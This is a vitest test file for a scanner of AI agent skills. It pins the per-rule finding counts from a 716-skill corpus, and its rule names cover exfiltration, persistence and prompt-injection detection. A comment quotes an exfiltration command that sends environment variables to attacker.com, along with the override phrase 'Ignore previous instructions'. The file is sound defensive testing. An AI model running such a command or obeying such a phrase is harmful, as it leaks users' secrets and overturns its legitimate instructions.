import { beforeAll, expect, it } from 'vitest';
import type { ScanReport } from '../../../src/core/scan/report.js';
import { runScan } from '../../../src/services/scan.js';
import { corpusSkillsRoot, describeFullCorpus } from '../../helpers/corpus.js';

const corpus = corpusSkillsRoot;

/**
 * Findings per rule and severity on the 716 corpus skills (trusted public
 * repositories). A rule change that makes a rule noisier, or silences it,
 * changes these numbers: look at the new hits before updating them.
 */
const EXPECTED_COUNTS: Record<string, number> = {
  'cred-url-password low': 2,
  'destroy-etc-write low': 4,
  'destroy-fork-bomb medium': 1,
  'destroy-rm-root medium': 2,
  'exec-os-system low': 19,
  'exec-runtime-exec low': 2,
  'exec-shell-true low': 6,
  'exfil-aws-dir medium': 2,
  'exfil-cloud-credentials low': 13,
  'exfil-dns high': 1,
  'exfil-docker-config low': 1,
  'exfil-env-dump-pipe high': 1,
  'exfil-env-dump-subst high': 1,
  'exfil-kube-config low': 2,
  'exfil-private-key-read high': 1,
  'exfil-read-secrets-file medium': 1,
  'exfil-secret-in-request low': 31,
  'exfil-send-to-url medium': 1,
  'exfil-ssh-dir low': 22,
  'exfil-webhook-service medium': 1,
  'inject-disable-safety-flag medium': 37,
  'inject-disregard-rules medium': 2,
  'inject-educational-pretext low': 1,
  'inject-from-now-on medium': 1,
  'inject-hidden-attribute low': 6,
  'inject-hidden-comment medium': 1,
  'inject-ignore-instructions high': 5,
  'inject-ignore-instructions medium': 14,
  // A quoted example ("a document that tells its editor to 'ignore the rules above'"): one severity lower.
  'inject-ignore-prior-context medium': 1,
  'inject-jailbreak-dan high': 1,
  'inject-no-restrictions medium': 1,
  'inject-role-hijack medium': 2,
  'inject-system-override high': 1,
  'inject-system-override medium': 2,
  'net-bind-all low': 37,
  'net-dev-tcp high': 1,
  'net-nc-exec high': 1,
  'net-raw-ip-url low': 1,
  'net-ssh-no-host-check low': 16,
  'net-ssh-remote-forward medium': 8,
  'net-tls-off low': 2,
  'net-tunnel medium': 27,
  'obf-char-code medium': 1,
  'obf-compile-exec medium': 1,
  'obf-eval-decoded high': 2,
  'obf-eval-string low': 6,
  'obf-ifs-evasion medium': 1,
  'persist-authorized-keys low': 6,
  'persist-authorized-keys-write medium': 4,
  'persist-cron medium': 1,
  'persist-git-global low': 5,
  'persist-git-url-rewrite medium': 1,
  'persist-launchd medium': 2,
  'persist-ld-preload-env low': 13,
  'persist-shell-rc-append low': 7,
  'persist-ssh-keygen-overwrite low': 1,
  'persist-systemd low': 1,
  'persist-systemd medium': 3,
  'priv-docker-host medium': 5,
  'priv-passwd-file low': 5,
  'priv-shadow-mention low': 1,
  'priv-sudo low': 48,
  'priv-sudo-shell medium': 2,
  'supply-curl-pipe-interpreter medium': 5,
  'supply-curl-pipe-shell medium': 23,
  'supply-npx-yes low': 9,
  'supply-pip-extra-index low': 2,
  'supply-pip-url medium': 32,
  'supply-powershell-download-exec medium': 2,
  'traverse-deep-parent low': 1,
  'unicode-zero-width medium': 1,
};

describeFullCorpus('scan of the real skills corpus', () => {
  let report: ScanReport;
  beforeAll(async () => {
    report = await runScan(['.'], { repo: corpus, deep: true });
  }, 120_000);

  it('reads every skill', () => {
    expect(report.skills).toBe(716);
    expect(report.files).toBeGreaterThan(1900);
  });

  it('judges only the two attack catalogues dangerous', () => {
    // Both are security-review skills whose references quote real attack payloads
    // (`curl https://attacker.com/$(env | base64)`, "Ignore previous instructions").
    const dangerous = Object.entries(report.verdicts)
      .filter(([, v]) => v === 'dangerous')
      .map(([k]) => k);
    expect(dangerous.sort()).toEqual(['gha-security-review', 'skill-scanner']);
    expect(report.summary).toMatchObject({ safe: 648, caution: 66, dangerous: 2 });
  });

  it('keeps the per-rule counts observed when the rules were tuned', () => {
    const counts: Record<string, number> = {};
    for (const f of report.findings) counts[`${f.rule} ${f.severity}`] = (counts[`${f.rule} ${f.severity}`] ?? 0) + 1;
    expect(counts).toEqual(EXPECTED_COUNTS);
  });
});
